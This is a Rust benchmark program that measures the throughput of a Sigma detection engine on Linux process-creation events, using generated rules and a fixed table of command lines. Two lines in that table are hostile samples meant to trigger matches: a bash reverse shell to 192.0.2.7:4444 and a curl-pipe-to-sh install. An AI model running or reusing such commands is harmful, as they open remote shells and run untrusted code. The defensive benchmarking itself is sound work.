//! Prints how many events per second the Sigma engine evaluates on one thread:
//! `cargo run --release -p sg-detect --example throughput -- [generated rules]`.
//!
//! The default pack is measured alone and with generated rules beside it, on ordinary and on suspicious command lines.

#![expect(clippy::print_stdout, reason = "printing figures is what this program is for")]

use std::time::{Duration, Instant};

use sg_detect::{Event, Field, LogSource, RuleSet, RuleSource, compile, default_pack};
use sg_types::RuleKind;

/// How long each figure is measured.
const SPAN: Duration = Duration::from_secs(2);

const LINES: &[(&str, &str, &str)] = &[
    ("/usr/bin/apt-get", "apt-get -y dist-upgrade", "/usr/bin/dash"),
    ("/usr/sbin/sshd", "sshd: anna [priv]", "/usr/sbin/sshd"),
    (
        "/usr/bin/dash",
        "/bin/sh -c cd / && run-parts --report /etc/cron.hourly",
        "/usr/sbin/cron",
    ),
    (
        "/usr/bin/git",
        "git -c gc.auto=0 fetch --all --prune",
        "/usr/bin/bash",
    ),
    (
        "/usr/lib/gcc/x86_64-linux-gnu/12/cc1",
        "cc1 -quiet -I include -imultiarch x86_64-linux-gnu -O2 -Wall socket.c",
        "/usr/bin/gcc",
    ),
    (
        "/usr/bin/python3.11",
        "/usr/bin/python3 /usr/bin/unattended-upgrade --verbose",
        "/usr/bin/dash",
    ),
    (
        "/usr/bin/rsync",
        "rsync -aHAX --delete -e ssh /srv/ backup.example:/srv/",
        "/usr/bin/bash",
    ),
    (
        "/usr/bin/docker",
        "docker run --rm -v /srv/data:/data:ro registry.example/app:1.2 --listen 0.0.0.0:80",
        "/usr/bin/bash",
    ),
    (
        "/usr/bin/bash",
        "bash -c bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
        "/usr/sbin/nginx",
    ),
    (
        "/usr/bin/dash",
        "sh -c curl -fsSL https://example.com/install.sh | sh",
        "/usr/bin/bash",
    ),
];

fn main() {
    let extra: usize = std::env::args()
        .nth(1)
        .and_then(|text| text.parse().ok())
        .unwrap_or(1_000);
    let mut sources = default_pack();
    report("default pack", &sources);
    sources.extend((0..extra).map(generated_rule));
    report(&format!("default pack and {extra} generated rules"), &sources);
}

fn report(name: &str, sources: &[RuleSource]) {
    let begin = Instant::now();
    let (rules, diagnostics) = compile(sources);
    let compiled = begin.elapsed();
    let ordinary = &LINES[..8];
    println!(
        "{name}: {} rules, {} refused, compiled in {compiled:.0?}",
        rules.rules().len(),
        diagnostics.len()
    );
    println!(
        "  ordinary events, index      {:>10.0} events/s",
        measure(ordinary, |event| rules.evaluate(event).len())
    );
    println!(
        "  with 2 matches in 10, index {:>10.0} events/s",
        measure(LINES, |event| rules.evaluate(event).len())
    );
    println!(
        "  ordinary events, full scan  {:>10.0} events/s",
        measure(ordinary, |event| full_scan(&rules, event))
    );
}

fn full_scan(rules: &RuleSet, event: &Event<'_>) -> usize {
    rules.evaluate_full_scan(event).len()
}

fn measure(lines: &[(&str, &str, &str)], evaluate: impl Fn(&Event<'_>) -> usize) -> f64 {
    let begin = Instant::now();
    let (mut events, mut matched) = (0_u32, 0);
    while begin.elapsed() < SPAN {
        for (image, line, parent) in lines {
            let mut event = Event::new(LogSource::LINUX_PROCESS_CREATION);
            event
                .set(Field::Image, *image)
                .set(Field::CommandLine, *line)
                .set(Field::ParentImage, *parent)
                .set(Field::User, "anna")
                .set(Field::CurrentDirectory, "/home/anna")
                .set(Field::ProcessId, events);
            matched += evaluate(&event);
            events += 1;
        }
    }
    std::hint::black_box(matched);
    f64::from(events) / begin.elapsed().as_secs_f64()
}

/// A rule like those of public collections: a program, some texts of which all or one must stand in the line, and an exception.
fn generated_rule(number: usize) -> RuleSource {
    let text = format!(
        "title: Generated {number}\nid: generated-{number}\nlevel: low\nlogsource:\n    product: linux\n    category: process_creation\n\
         detection:\n    program:\n        Image|endswith:\n            - '/tool{number}'\n            - '/bin/bash'\n    \
         words:\n        CommandLine|contains|all:\n            - '--option{}'\n            - 'value{number}'\n    \
         pattern:\n        CommandLine|re: 'key{number}=[0-9]+'\n    except:\n        ParentImage|startswith: '/opt/vendor{}/'\n    \
         condition: program and (words or pattern) and not except\n",
        number % 97,
        number % 31,
    );
    RuleSource {
        kind: RuleKind::Sigma,
        name: format!("generated-{number}.yml"),
        text,
    }
}
